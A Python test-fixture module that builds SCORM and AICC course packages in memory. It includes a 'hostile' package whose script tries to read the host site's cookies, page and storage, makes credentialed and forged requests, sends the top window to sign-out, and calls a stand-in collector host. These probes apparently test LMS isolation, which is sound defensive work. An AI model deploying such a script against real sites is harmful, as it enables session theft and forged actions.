"""Small SCORM and AICC packages of our own making, as zips in memory.

Each SCO is a page that looks for its API as the standards say, begins when it is loaded and ends when it goes. It has a
button for each thing that a learner does, and `call("LMSSetValue", …)` for tests that want one call of the API.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from html import escape

ADL_12 = 'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"'
ADL_2004 = (
    'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"'
    ' xmlns:adlseq="http://www.adlnet.org/xsd/adlseq_v1p3" xmlns:adlnav="http://www.adlnet.org/xsd/adlnav_v1p3"'
    ' xmlns:imsss="http://www.imsglobal.org/xsd/imsss"'
)

# The search of the standards (SCORM 1.2 RTE 3.3.6.1, SCORM 2004 RTE 3.3), then the life of a SCO.
DRIVER = """
"use strict";
function find(name) {
  let at = window, tries = 0;
  while (!at[name] && at.parent && at.parent !== at && tries++ < 500) at = at.parent;
  if (!at[name] && window.opener) at = window.opener;
  return at[name] || null;
}
const two = document.documentElement.dataset.standard === "2004";
const api = find(two ? "API_1484_11" : "API");
const names = two ? { begin: "Initialize", get: "GetValue", set: "SetValue", keep: "Commit", end: "Terminate", error: "GetLastError" }
  : { begin: "LMSInitialize", get: "LMSGetValue", set: "LMSSetValue", keep: "LMSCommit", end: "LMSFinish", error: "LMSGetLastError" };
const core = two ? "cmi." : "cmi.core.";
let ended = false;
let begun = 0;
function say(words) { document.getElementById("said").textContent = words; }
function call(fn, ...args) {
  const answer = api[fn](...args);
  say(fn + "(" + args.join(", ") + ") = " + answer + " [" + api[names.error]() + "]");
  return answer;
}
function get(element) { return call(names.get, element); }
function set(element, value) { return call(names.set, element, String(value)); }
function commit() { return call(names.keep, ""); }
function end() { if (ended) return "true"; ended = true; const answer = call(names.end, ""); document.body.dataset.ended = answer; return answer; }
function time(seconds) {
  if (two) return "PT" + seconds + "S";
  const two_digits = (n) => String(Math.floor(n)).padStart(2, "0");
  return two_digits(seconds / 3600) .padStart(4, "0") + ":" + two_digits(seconds / 60 % 60) + ":" + (seconds % 60).toFixed(2).padStart(5, "0");
}
const acts = {
  page(n) { set(two ? "cmi.location" : "cmi.core.lesson_location", "page-" + n); set("cmi.suspend_data", "seen=" + n); },
  score(n) { set(core + "score.min", 0); set(core + "score.max", 100); set(core + "score.raw", n); if (two) set("cmi.score.scaled", n / 100); },
  complete() { set(two ? "cmi.completion_status" : "cmi.core.lesson_status", "completed"); },
  pass() { if (two) acts.complete(); set(two ? "cmi.success_status" : "cmi.core.lesson_status", "passed"); },
  fail() { if (two) acts.complete(); set(two ? "cmi.success_status" : "cmi.core.lesson_status", "failed"); },
  time(n) { set(core + "session_time", time(n)); },
  answer(n) {
    const at = "cmi.interactions." + n + ".";
    set(at + "id", "question-" + n);
    if (two) set(at + "objectives.0.id", "objective-" + n);
    set(at + "type", "choice");
    set(at + "weighting", "1");
    if (!two) set(at + "student_response", "b");
    else set(at + "learner_response", "b");
    set(at + "result", "correct");
    set(at + "latency", two ? "PT4.25S" : "00:00:04.25");
  },
  objective(n) {
    const at = "cmi.objectives." + n + ".";
    set(at + "id", "objective-" + n);
    if (two) { set(at + "success_status", "passed"); set(at + "completion_status", "completed"); set(at + "score.scaled", "0.875"); }
    else { set(at + "status", "passed"); set(at + "score.raw", "87.5"); }
  },
  suspend() { set(two ? "cmi.exit" : "cmi.core.exit", "suspend"); end(); },
  go(where) { set("adl.nav.request", where); end(); },
  commit, end,
};
if (api) {
  begun = performance.now();
  document.body.dataset.began = call(names.begin, "");
  const entry = get(core + "entry");
  document.body.dataset.entry = entry;
  document.body.dataset.location = get(two ? "cmi.location" : "cmi.core.lesson_location");
  document.body.dataset.suspended = get("cmi.suspend_data");
  const status = two ? "cmi.completion_status" : "cmi.core.lesson_status";
  if (["not attempted", "unknown"].includes(get(status))) set(status, "incomplete");
  say("ready");
} else say("no API");
document.addEventListener("click", (event) => {
  const [act, value] = (event.target.dataset.act || "").split(":");
  if (act) acts[act](isNaN(value) || value === "" ? value : Number(value));
});
addEventListener("pagehide", () => { if (api && !ended) end(); });
"""

ACTS: Mapping[str, str] = {
    "page:2": "Page 2",
    "page:7": "Page 7",
    "score:87.5": "Score 87.5",
    "score:40": "Score 40",
    "answer:0": "Answer a question",
    "objective:0": "Meet an objective",
    "time:61.5": "61.5 seconds",
    "complete": "Complete",
    "pass": "Pass",
    "fail": "Fail",
    "commit": "Commit",
    "suspend": "Suspend",
    "end": "End",
}


@dataclass(frozen=True)
class Sco:
    """One page that talks to the API. `more` is XML inside its item, `script` runs after the driver."""

    identifier: str = "SCO-1"
    title: str = "First part"
    more: str = ""
    parameters: str = ""
    script: str = ""
    is_asset: bool = False
    acts: Sequence[str] = field(default_factory=lambda: tuple(ACTS))


def zipped(files: Mapping[str, str | bytes]) -> bytes:
    """The files as a zip."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return target.getvalue()


def sco_page(sco: Sco, standard: str) -> str:
    """The page of a SCO with its buttons."""
    buttons = "\n".join(
        f'<button type="button" data-act="{act}">{escape(ACTS.get(act, act))}</button>' for act in sco.acts
    )
    scripts = "" if sco.is_asset else '<script src="driver.js"></script>'
    extra = f'<script src="{sco.identifier}.js"></script>' if sco.script else ""
    return (
        f'<!doctype html><html lang="en" data-standard="{standard}"><head><meta charset="utf-8">'
        f"<title>{escape(sco.title)}</title></head><body>"
        f"<h1>{escape(sco.title)}</h1>{'' if sco.is_asset else buttons}<p id='said' role='status'></p>{scripts}{extra}</body></html>"
    )


def _content(scos: Sequence[Sco], standard: str) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {"driver.js": DRIVER}
    for sco in scos:
        files[f"{sco.identifier}.html"] = sco_page(sco, standard)
        if sco.script:
            files[f"{sco.identifier}.js"] = sco.script
    return files


def _items(scos: Sequence[Sco]) -> str:
    return "\n".join(
        f'<item identifier="{sco.identifier}" identifierref="R-{sco.identifier}"'
        + (f' parameters="{escape(sco.parameters)}"' if sco.parameters else "")
        + f"><title>{escape(sco.title)}</title>{sco.more}</item>"
        for sco in scos
    )


def _resources(scos: Sequence[Sco], attribute: str) -> str:
    return "\n".join(
        f'<resource identifier="R-{sco.identifier}" type="webcontent" adlcp:{attribute}="{"asset" if sco.is_asset else "sco"}"'
        f' href="{sco.identifier}.html"><file href="{sco.identifier}.html"/><file href="driver.js"/></resource>'
        for sco in scos
    )


def scorm_12(*scos: Sco, title: str = "Denied claims", files: Mapping[str, str | bytes] | None = None) -> bytes:
    """A SCORM 1.2 package; without SCOs it has one."""
    parts = scos or (Sco(),)
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest identifier="org.guild.own" version="1" {ADL_12}>'
        "<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>"
        f'<organizations default="ORG"><organization identifier="ORG"><title>{escape(title)}</title>{_items(parts)}</organization>'
        f"</organizations><resources>{_resources(parts, 'scormtype')}</resources></manifest>"
    )
    return zipped({"imsmanifest.xml": manifest, **_content(parts, "1.2"), **(files or {})})


def scorm_12_chain() -> bytes:
    """SCORM 1.2 with three SCOs, each open when the one before is complete, and a mastery score in the last."""
    after = "<adlcp:prerequisites type='aicc_script'>{}</adlcp:prerequisites>"
    return scorm_12(
        Sco("READ", "Read the letter"),
        Sco("WRITE", "Write the appeal", more=after.format("READ")),
        Sco(
            "TEST", "Test yourself", more=after.format("READ&amp;WRITE") + "<adlcp:masteryscore>80</adlcp:masteryscore>"
        ),
        title="An appeal in three parts",
    )


def scorm_2004(
    *scos: Sco,
    edition: str = "4th Edition",
    title: str = "Appeals",
    sequencing: str = "",
    attributes: str = "",
    files: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """A SCORM 2004 package; without SCOs it has one with objectives. `attributes` are of its organisation."""
    parts = scos or (Sco(),)
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest identifier="org.guild.own" version="1" {ADL_2004}>'
        f"<metadata><schema>ADL SCORM</schema><schemaversion>2004 {edition}</schemaversion></metadata>"
        f'<organizations default="ORG"><organization identifier="ORG" {attributes}><title>{escape(title)}</title>{_items(parts)}'
        f"{sequencing}</organization></organizations><resources>{_resources(parts, 'scormType')}</resources></manifest>"
    )
    return zipped({"imsmanifest.xml": manifest, **_content(parts, "2004"), **(files or {})})


def _forced(place: int, before: str | None) -> str:
    """The sequencing of one SCO that is disabled until the one before is satisfied."""
    rule, reads = "", ""
    if before:
        condition = '<imsss:ruleCondition referencedObjective="before" operator="not" condition="{}"/>'
        rule = (
            '<imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions conditionCombination="any">'
            f"{condition.format('satisfied')}{condition.format('objectiveStatusKnown')}"
            '</imsss:ruleConditions><imsss:ruleAction action="disabled"/></imsss:preConditionRule></imsss:sequencingRules>'
        )
        reads = (
            f'<imsss:objective objectiveID="before"><imsss:mapInfo targetObjectiveID="org.guild.{place - 1}"'
            ' readSatisfiedStatus="true" writeSatisfiedStatus="false"/></imsss:objective>'
        )
    return (
        f'<imsss:sequencing>{rule}<imsss:objectives><imsss:primaryObjective objectiveID="own"><imsss:mapInfo'
        f' targetObjectiveID="org.guild.{place}" readSatisfiedStatus="true" writeSatisfiedStatus="true"/>'
        f"</imsss:primaryObjective>{reads}</imsss:objectives></imsss:sequencing>"
    )


def scorm_2004_forced(edition: str = "3rd Edition") -> bytes:
    """SCORM 2004 with three SCOs that open one after the other, with flow and choice."""
    names = (("ONE", "The letter"), ("TWO", "The reason"), ("THREE", "The appeal"))
    scos = [
        Sco(identifier, title, more=_forced(place, names[place - 2][0] if place > 1 else None))
        for place, (identifier, title) in enumerate(names, 1)
    ]
    control = '<imsss:sequencing><imsss:controlMode choice="true" flow="true"/></imsss:sequencing>'
    return scorm_2004(*scos, edition=edition, title="In this order", sequencing=control)


def scorm_12_choice() -> bytes:
    """SCORM 1.2 with two organisations: the default one has two SCOs, the other one has one."""
    long, short = (Sco("READ", "Read the letter"), Sco("WRITE", "Write the appeal")), (Sco("BRIEF", "In brief"),)
    organizations = "".join(
        f'<organization identifier="{name}"><title>{title}</title>{_items(scos)}</organization>'
        for name, title, scos in (("LONG", "The whole course", long), ("SHORT", "For the hurried", short))
    )
    manifest = (
        f'<?xml version="1.0" encoding="UTF-8"?><manifest identifier="org.guild.choice" version="1" {ADL_12}>'
        "<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>"
        f'<organizations default="LONG">{organizations}</organizations>'
        f"<resources>{_resources((*long, *short), 'scormtype')}</resources></manifest>"
    )
    return zipped({"imsmanifest.xml": manifest, **_content((*long, *short), "1.2")})


NOTES = '<adlcp:data><adlcp:map targetID="org.guild.notes"/></adlcp:data>'


def scorm_2004_teller() -> bytes:
    """SCORM 2004 with one SCO that tells the learner's other packages whether it was passed, and shares its notes with them."""
    objective = (
        '<imsss:sequencing><imsss:objectives><imsss:primaryObjective objectiveID="own"><imsss:mapInfo'
        ' targetObjectiveID="org.guild.basics" writeSatisfiedStatus="true"/></imsss:primaryObjective></imsss:objectives>'
        "</imsss:sequencing>"
    )
    return scorm_2004(Sco("BASICS", "The basics", more=NOTES + objective), title="Basics")


def scorm_2004_listener(attributes: str = "") -> bytes:
    """SCORM 2004 with a part that is closed until another package has said that its learner has the basics."""
    rule = (
        "<imsss:sequencingRules><imsss:preConditionRule><imsss:ruleConditions conditionCombination='any'>"
        "<imsss:ruleCondition referencedObjective='basics' operator='not' condition='objectiveStatusKnown'/>"
        "<imsss:ruleCondition referencedObjective='basics' operator='not' condition='satisfied'/>"
        "</imsss:ruleConditions><imsss:ruleAction action='disabled'/></imsss:preConditionRule></imsss:sequencingRules>"
    )
    reads = (
        "<imsss:objectives><imsss:primaryObjective objectiveID='own'/><imsss:objective objectiveID='basics'>"
        "<imsss:mapInfo targetObjectiveID='org.guild.basics'/></imsss:objective></imsss:objectives>"
    )
    control = '<imsss:sequencing><imsss:controlMode choice="true" flow="true"/></imsss:sequencing>'
    scos = (
        Sco("FIRST", "Where to begin", more=NOTES),
        Sco("LATER", "For the experienced", more=f"<imsss:sequencing>{rule}{reads}</imsss:sequencing>"),
    )
    return scorm_2004(*scos, title="Going on", sequencing=control, attributes=attributes)


def aicc(title: str = "Rules of the guild") -> bytes:
    """An AICC package of one assignable unit whose page says with which address it was launched."""
    page = (
        "<!doctype html><html lang='en'><head><meta charset='utf-8'><title>AICC</title></head><body><h1>Rules</h1>"
        "<p id='said'></p><script src='unit.js'></script></body></html>"
    )
    script = "document.getElementById('said').textContent = location.search;"
    files = {
        "rules.crs": f"[Course]\r\nCourse_Creator=Guild\r\nCourse_ID=RULES\r\nCourse_System=HTML\r\nCourse_Title={title}\r\nLevel=1\r\n"
        "Max_Fields_CST=2\r\nTotal_AUs=1\r\nTotal_Blocks=0\r\nVersion=3.0\r\n[Course_Behavior]\r\nMax_Normal=1\r\n"
        "[Course_Description]\r\nThe rules.\r\n",
        "rules.au": '"system_id","type","command_line","Max_Time_Allowed","time_limit_action","file_name","max_score","mastery_score",'
        '"system_vendor","core_vendor","web_launch","au_password"\r\n"A1","","","00:00:00","C,N","unit.html",100,80,"","","",""\r\n',
        "rules.des": '"system_id","developer_id","title","description"\r\n"A1","1","The rules","All of them"\r\n',
        "rules.cst": '"block","member"\r\n"ROOT","A1"\r\n',
        "unit.html": page,
        "unit.js": script,
    }
    return zipped(files)


ATTACK = """
// What a hostile package would try; each result stands in window.tried.
"use strict";
const site = SITE;
const tried = (window.tried = {});
function attempt(name, act) {
  try {
    const got = act();
    tried[name] = got && typeof got.then === "function" ? "waiting" : String(got);
    if (got && typeof got.then === "function")
      Promise.race([got, silence()]).then((value) => { tried[name] = String(value); }, (error) => { tried[name] = "refused: " + error.name; });
  } catch (error) { tried[name] = "refused: " + error.name; }
}
const silence = () => new Promise((_, fail) => setTimeout(() => fail({ name: "silence" }), 4000));
attempt("cookies", () => document.cookie);
attempt("site cookies", () => top.document.cookie);
attempt("site page", () => top.document.body.innerHTML);
attempt("site storage", () => top.localStorage.length);
attempt("site api", () => fetch(site + "/api/v1/me", { credentials: "include" }).then((answer) => answer.text()));
attempt("site form", () => fetch(site + "/account", { method: "POST", mode: "no-cors", credentials: "include", body: "x=1" }).then((a) => a.type));
attempt("top address", () => { top.location.href = site + "/sign-out"; return "gone"; });
attempt("site frame", () => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.src = site + "/";
  frame.onload = () => { try { done(frame.contentDocument.body.textContent.length); } catch (error) { done("refused: " + error.name); } };
  document.body.append(frame);
}));
attempt("window", () => String(window.open(site + "/")));
attempt("own storage", () => { const had = localStorage.getItem("secret"); localStorage.setItem("secret", "of " + location.host); return had; });
attempt("other commit", () => fetch("/" + "0".repeat(43) + "/commit", { method: "POST", headers: { "content-type": "application/json" },
  body: JSON.stringify({ seq: 1, sco: "SCO-1", elements: { "cmi.core.lesson_status": "passed" }, terminate: false, calls: [] }) }).then((a) => a.status));
attempt("foreign service", () => fetch("https://collector.example/").then((a) => a.status));
"""


def hostile(site: str) -> bytes:
    """A SCORM 1.2 package that attacks the site at this address; what it got stands in `window.tried` of its page."""
    script = ATTACK.replace("SITE", f'"{site}"')
    return scorm_12(Sco(script=script), title="Please open me")
